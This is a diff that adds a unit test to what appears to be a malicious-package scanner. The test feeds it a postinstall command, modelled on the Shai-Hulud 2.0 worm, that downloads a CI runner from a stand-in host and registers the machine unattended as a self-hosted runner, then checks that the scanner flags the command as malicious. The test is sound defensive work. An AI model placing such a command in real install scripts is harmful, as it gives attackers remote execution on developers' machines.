@@ -814,3 +814,14 @@ def test_printf_escapes_are_a_command_only_when_evaluated():
     # escapes for colours and a check mark print text.
     assert "install-script/encoded-command" not in rules(artifact(
         {"postinstall": "printf '\\033[1m\\033[32m\\342\\234\\224\\033[0m installed\\n'"}))
+
+
+def test_a_ci_runner_registered_for_a_repository_is_remote_access():
+    # Shai-Hulud 2.0: the machine joins a repository's self-hosted runners; its workflows then run here.
+    command = ("cd $HOME && curl -sL -o r.tgz https://runner.example/actions-runner-linux-x64.tar.gz && tar xzf r.tgz && "
+               "./config.sh --url https://git.example/o/r --token FAKE --name SHA1HULUD --unattended && nohup ./run.sh &")
+    found = findings(artifact({"postinstall": command}))
+    assert "install-script/ci-runner" in {f.rule for f in found}
+    assert decide(found).level is Level.MALICIOUS
+    # Configuring the runner interactively, or reading its help, registers nothing unattended.
+    assert "install-script/ci-runner" not in rules(artifact({"postinstall": "./config.sh --help"}))
